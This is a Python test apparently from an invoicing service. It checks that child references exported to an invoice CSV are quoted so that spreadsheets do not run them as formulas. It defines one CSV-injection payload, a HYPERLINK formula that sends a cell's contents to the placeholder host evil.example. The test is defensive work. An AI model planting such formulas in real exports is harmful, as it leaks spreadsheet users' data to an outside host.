"""A council chooses its own child `ref`; another council opens the invoice in a spreadsheet.
A ref that a spreadsheet would run as a formula is quoted in CSV; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

from tests.settlement.support import Market

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


async def test_a_ref_that_looks_like_a_formula_is_quoted_in_the_invoice_csv(
    http, coop, clock
) -> None:
    m = await Market.open(http, coop, date(2026, 1, 25))
    await m.place(0, date(2026, 4, 1), ref=HOSTILE)
    await m.place(1, date(2026, 4, 1), ref="-1+2")
    m.move_to(date(2026, 2, 2))
    run = await m.settle("2026-01")
    [invoice] = await m.invoices(run)
    assert {x["child_ref"] for x in invoice["lines"]} == {HOSTILE, "-1+2"}  # JSON: as sent
    r = await http.get(f"/invoices/{invoice['id']}", headers={**m.seller.h, "Accept": "text/csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert {row["child_ref"] for row in rows} == {"'" + HOSTILE, "'-1+2"}
    assert sum(int(row["amount_pence"]) for row in rows) == invoice["total_pence"]
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
